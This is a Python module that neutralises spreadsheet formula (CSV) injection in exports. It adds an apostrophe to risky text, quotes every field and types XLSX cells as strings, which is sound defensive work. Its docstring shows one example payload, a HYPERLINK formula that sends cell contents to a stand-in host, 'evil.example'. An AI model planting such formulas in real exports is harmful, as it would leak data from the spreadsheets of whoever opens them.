"""Text written to a spreadsheet cell is never taken for a formula, and reads back unchanged.

A plan's texts come from partners and the public view exports them to anyone: a cell reading
``=HYPERLINK("https://evil.example/?"&A1, "Details")`` would run in the spreadsheet of whoever
opens the export. OWASP's CSV injection guidance (and ASVS 1.2.10) is that a cell beginning with
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a null is written with a leading
apostrophe, which every spreadsheet shows as text. We go a little further, because spreadsheet
imports trim spaces and input methods fold look-alike characters: the prefix is looked for
after any leading spaces, line breaks and invisible formatting characters, and in its
full-width and small forms (U+FF1D, U+FE62). A text that already begins with apostrophes
followed by such a prefix gets one more, so that ``restore`` can always tell our apostrophe
from the author's: ``restore(neutralise(text)) == text`` for every text, which is what keeps
a plan exported and imported again unchanged.

Every CSV and XLSX writer goes through ``CsvWriter`` or ``xlsx_cell``; the importer reads each
text cell through ``restore``. Numbers (a figure of -3 stored as a number) stay numbers: only
text can smuggle a formula.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell import WriteOnlyCell

QUOTE = "'"
FORMULA_PREFIXES = frozenset("=+-@")
# Start a formula (or hide one) by themselves, whatever follows: OWASP's tab and carriage
# return, ASVS's null, and the line feed that a carriage return often comes with.
CONTROL_PREFIXES = frozenset("\t\r\n\0")
# Excel's own limit for one cell; openpyxl cuts a longer text silently at the end.
MAX_XLSX_CHARS = 32_767
# Characters an XLSX file cannot hold at all (openpyxl refuses them): the C0 controls but
# tab, line feed and carriage return. Word's manual line break (vertical tab) and page break
# (form feed) become line breaks; the rest carry nothing a reader could see.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0e-\x1f]")
_XLSX_BREAKS = re.compile(r"[\x0b\x0c]")


def _skipped(char: str) -> bool:
    """Characters a spreadsheet may drop or trim before it decides what a cell holds."""
    return char.isspace() or unicodedata.category(char) in {"Cc", "Cf"}


def _looks_like_formula(text: str) -> bool:
    if text[:1] in CONTROL_PREFIXES:
        return True
    for char in text:
        if _skipped(char):
            continue
        return unicodedata.normalize("NFKC", char)[:1] in FORMULA_PREFIXES
    return False


def needs_quote(text: str) -> bool:
    """Would ``text`` be written with a leading apostrophe."""
    return _looks_like_formula(text.lstrip(QUOTE))


def neutralise(text: str) -> str:
    """``text`` as it may safely be written to a cell: with a leading apostrophe if need be."""
    return QUOTE + text if needs_quote(text) else text


def restore(text: str) -> str:
    """The text ``neutralise`` was given, from what it wrote (other text is left as it is)."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


def cell_value(value: Any) -> Any:
    """A value for a cell: text neutralised, numbers and dates as they are, ``None`` as blank."""
    if value is None:
        return None
    if isinstance(value, int | float | Decimal | date | datetime):
        return value
    return neutralise(str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``, every text neutralised."""
    return [cell_value(value) for value in values]


class CsvWriter:
    """``csv.writer`` for exports: every text neutralised, and every field in double quotes.

    The quotes are OWASP's other half: Excel set to a language whose list separator is ``;``
    splits an unquoted ``Patrols;=1+1`` into two cells, the second a live formula.
    """

    def __init__(self, file: Any) -> None:
        self.writer = csv.writer(file, quoting=csv.QUOTE_ALL)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self.writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xml_safe(text: str) -> str:
    """``text`` without the characters an XLSX file cannot hold (see ``_XLSX_ILLEGAL``).

    For a workbook's properties (its title, subject), which are never formulas.
    """
    return _XLSX_ILLEGAL.sub("", _XLSX_BREAKS.sub("\n", text))


def xlsx_text(text: str) -> str:
    """``text`` neutralised and made writable to an XLSX cell.

    A text longer than a cell can hold is cut at the end, after neutralising, so the
    apostrophe that makes it inert is never what is lost.
    """
    return neutralise(xml_safe(text))[:MAX_XLSX_CHARS]


def xlsx_cell(sheet: Any, value: Any) -> WriteOnlyCell:
    """A cell of the write-only ``sheet`` holding ``value``; text always as a string.

    openpyxl decides a cell's type from its value: text starting with ``=`` becomes a formula
    and ``#N/A`` an error value. Text is given the string type explicitly instead.
    """
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=cell_value(value))
    text = xlsx_text(value)
    cell = WriteOnlyCell(sheet, value=text or None)
    if text:
        cell.data_type = "s"
    return cell
